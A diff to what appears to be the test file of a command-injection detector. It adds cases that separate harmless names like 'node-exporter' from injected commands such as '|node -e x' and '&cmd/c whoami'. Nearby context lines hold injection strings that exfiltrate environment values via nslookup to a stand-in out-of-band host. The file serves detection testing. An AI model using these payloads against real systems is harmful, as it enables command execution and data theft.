@@ -437,6 +437,13 @@ describe('command injection pack', () => {
     expect(score(templateInjectionPack, 'Hello {{ name }}, your order {{ order.id }} ships today', 'body_json', 'template')).toBe(0);
   });
 
+  it('reads an option of a chained shell or interpreter as a word of its own: `node-exporter` is another program', () => {
+    expect(score(commandInjectionPack, 'up{job=~"kubelet|node-exporter"}', 'query', 'match[]')).toBe(0);
+    expect(score(commandInjectionPack, '|php-fpm', 'query', 'q')).toBe(0);
+    expect(score(commandInjectionPack, '|node -e x', 'query', 'q')).toBeGreaterThanOrEqual(5);
+    expect(score(commandInjectionPack, '&cmd/c whoami', 'query', 'q')).toBeGreaterThanOrEqual(5);
+  });
+
   it('reads a variable inside a quoted argument as a command argument', () => {
     expect(score(commandInjectionPack, `x';nslookup "$env:COMPUTERNAME.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
     expect(score(commandInjectionPack, `x';Resolve-DnsName "$env:USERDOMAIN.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
